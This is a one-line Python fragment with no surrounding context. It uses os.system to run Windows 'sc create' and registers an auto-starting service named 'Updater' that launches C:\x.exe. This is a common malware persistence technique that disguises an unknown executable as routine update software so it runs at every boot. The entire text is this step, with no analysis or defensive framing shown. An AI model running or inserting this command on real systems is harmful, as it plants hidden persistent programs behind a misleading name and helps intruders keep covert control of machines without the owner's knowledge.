os.system("sc create Updater binPath= C:\\x.exe start= auto")
